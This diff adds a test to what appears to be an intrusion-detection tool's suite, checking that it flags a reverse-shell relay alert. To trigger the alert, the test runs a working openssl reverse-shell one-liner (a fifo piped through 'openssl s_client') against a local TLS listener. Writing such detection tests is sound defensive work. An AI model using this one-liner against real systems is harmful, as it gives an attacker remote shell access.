@@ -643,3 +643,43 @@ def test_package_reinstall_stays_quiet(dflt):
         assert not noisy, noisy
     finally:
         os.rmdir(cg)
+
+
+def test_reverse_shell_openssl_relay(dflt, tmp):
+    """The openssl reverse shell: 'sh -i < fifo 2>&1 | openssl s_client ... > fifo'
+    against a TLS listener on 127.0.0.1: the shell's output is piped to openssl."""
+    if not shutil.which("openssl"):
+        pytest.skip("no openssl")
+    key, cert = os.path.join(tmp, "k.pem"), os.path.join(tmp, "c.pem")
+    subprocess.run(["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-keyout", key,
+                    "-out", cert, "-days", "1", "-subj", "/CN=127.0.0.1"],
+                   check=True, capture_output=True)
+    s = socket.socket()
+    s.bind(("127.0.0.1", 0))
+    port = s.getsockname()[1]
+    s.close()
+    srv = subprocess.Popen(["openssl", "s_server", "-quiet", "-accept", "127.0.0.1:%d" % port,
+                            "-key", key, "-cert", cert], stdin=subprocess.PIPE,
+                           stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+    try:
+        deadline = time.monotonic() + 10
+        while time.monotonic() < deadline:  # until it listens
+            with socket.socket() as c:
+                if c.connect_ex(("127.0.0.1", port)) == 0:
+                    break
+            time.sleep(0.1)
+        fifo = os.path.join(tmp, "f")
+        sh = subprocess.Popen(["/usr/bin/timeout", "15", "/bin/bash", "-c",
+                               "mkfifo %s; /bin/sh -i < %s 2>&1 | openssl s_client -quiet "
+                               "-connect 127.0.0.1:%d > %s" % (fifo, fifo, port, fifo)],
+                              stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+        ev = dflt.wait_for(lambda e: e.get("rule") == "c2-reverse-shell-relay",
+                           what="openssl relay alert")
+        peer = ev["exec"]["stdio"]["stdout"].get("peer") or ev["exec"]["stdio"]["stdin"].get("peer")
+        assert peer and os.path.basename(peer["exe"]) in ("openssl", "dash", "sh", "bash")
+        srv.stdin.write(b"exit\n")
+        srv.stdin.flush()
+        sh.wait(20)
+    finally:
+        srv.kill()
+        srv.wait()
